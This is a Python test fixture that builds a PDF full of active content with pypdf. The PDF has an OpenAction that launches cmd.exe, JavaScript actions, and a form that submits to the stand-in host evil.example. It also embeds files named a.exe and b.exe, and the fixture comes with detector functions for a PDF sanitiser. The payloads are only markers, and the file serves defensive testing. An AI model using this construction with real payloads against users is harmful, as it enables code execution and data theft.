"""PDFs with active content at every level, made with pypdf for the tests."""

from __future__ import annotations

import io

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

SCRIPT = "app.alert('handouts-js-marker')"
COMMAND = "cmd.exe"
EMBEDDED = b"handouts-embedded-marker"
WEB = "https://www.city.koganei.lg.jp/"


def _name(value: str) -> NameObject:
    return NameObject(value)


def _dict(**entries: object) -> DictionaryObject:
    return DictionaryObject({_name("/" + k): v for k, v in entries.items()})


def _js() -> DictionaryObject:
    return _dict(S=_name("/JavaScript"), JS=TextStringObject(SCRIPT))


def _launch() -> DictionaryObject:
    return _dict(S=_name("/Launch"), F=TextStringObject(COMMAND))


def _link(writer: PdfWriter, action: DictionaryObject, y: int) -> object:
    rect = ArrayObject([NumberObject(50), NumberObject(y), NumberObject(200), NumberObject(y + 20)])
    return writer._add_object(
        _dict(Type=_name("/Annot"), Subtype=_name("/Link"), Rect=rect, A=action)
    )


def hostile_pdf(pages: int = 2) -> bytes:
    """Page /AA with JavaScript, links running JavaScript and Launch (one chained by /Next),
    a web link, a file attachment annotation, a widget with a submit action, and document
    level OpenAction, JavaScript and embedded files."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    page = writer.pages[0]
    page[_name("/AA")] = _dict(O=_js())
    chained = _dict(S=_name("/URI"), URI=TextStringObject(WEB), Next=_launch())
    file_stream = DecodedStreamObject()
    file_stream.set_data(EMBEDDED)
    file_stream[_name("/Type")] = _name("/EmbeddedFile")
    filespec = _dict(
        Type=_name("/Filespec"),
        F=TextStringObject("a.exe"),
        EF=_dict(F=writer._add_object(file_stream)),
    )
    rect = ArrayObject([NumberObject(300), NumberObject(300), NumberObject(320), NumberObject(320)])
    attachment = writer._add_object(
        _dict(Type=_name("/Annot"), Subtype=_name("/FileAttachment"), Rect=rect, FS=filespec)
    )
    widget = writer._add_object(
        _dict(
            Type=_name("/Annot"),
            Subtype=_name("/Widget"),
            Rect=rect,
            FT=_name("/Tx"),
            T=TextStringObject("name"),
            A=_dict(S=_name("/SubmitForm"), F=TextStringObject("https://evil.example/")),
            AA=_dict(K=_js()),
        )
    )
    page[_name("/Annots")] = ArrayObject(
        [
            _link(writer, _js(), 100),
            _link(writer, _launch(), 150),
            _link(writer, chained, 200),
            _link(writer, _dict(S=_name("/URI"), URI=TextStringObject(WEB)), 250),
            attachment,
            widget,
        ]
    )
    writer.add_attachment("b.exe", EMBEDDED)
    names = writer._root_object["/Names"]
    names[_name("/JavaScript")] = _dict(
        Names=ArrayObject([TextStringObject("a"), writer._add_object(_js())])
    )
    writer._root_object[_name("/OpenAction")] = _launch()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def active_markers(pdf: bytes) -> list[str]:
    """Which of the active things made above are still in `pdf`, read object by object."""
    found = set()
    for obj in _objects(pdf):
        text = repr(obj)
        if hasattr(obj, "get_data"):
            text += repr(obj.get_data())
        names = ("/JavaScript", "/Launch", "/SubmitForm", "/FileAttachment", "/EmbeddedFile", "/AA")
        for marker in names:
            if f"'{marker}'" in text:  # the name itself, not one that merely starts alike
                found.add(marker)
        for marker in (SCRIPT, COMMAND, EMBEDDED.decode()):
            if marker in text:
                found.add(marker)
    return sorted(found)


_RUNNABLE_ACTIONS = {
    "/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/ResetForm",
    "/GoToE", "/GoToR", "/Rendition", "/Movie", "/Sound", "/RichMediaExecute",
}  # fmt: skip


def runnable(pdf: bytes) -> list[str]:
    """What a viewer could still run or open in `pdf`, object by object: actions of a kind
    that runs or sends something, scripts, event actions, embedded files with their bytes,
    file attachment annotations. Damaged input may leave inert remnants (a stray string, a
    key without its dictionary): those are not counted, as no viewer acts on them."""
    from pypdf.generic import DictionaryObject, StreamObject

    found = set()
    for obj in _objects(pdf):
        for d in _nested_dictionaries(obj, DictionaryObject):
            if str(d.get("/S", "")) in _RUNNABLE_ACTIONS:
                found.add(str(d["/S"]))
            for key in ("/JS", "/AA", "/EmbeddedFiles", "/XFA"):
                if key in d:
                    found.add(key)
            if str(d.get("/Subtype", "")) == "/FileAttachment":
                found.add("/FileAttachment")
            embedded = str(d.get("/Type", "")) == "/EmbeddedFile"
            if embedded and isinstance(d, StreamObject) and d.get_data():
                found.add("/EmbeddedFile")
    return sorted(found)


def _nested_dictionaries(obj: object, kind: type) -> list:
    """`obj` and every dictionary directly inside it (not through references)."""
    from pypdf.generic import ArrayObject

    out, pending = [], [obj]
    while pending:
        item = pending.pop()
        if isinstance(item, kind):
            out.append(item)
            pending.extend(item.values())
        elif isinstance(item, ArrayObject):
            pending.extend(item)
    return out


def _objects(pdf: bytes) -> list:
    """Every object of `pdf` pypdf can read, by number; a damaged one is passed over."""
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(pdf))
    found = []
    for number in range(1, reader.trailer["/Size"]):
        try:
            found.append(reader.get_object(number))
        except Exception:  # damage is what these files are made of
            continue
    return found
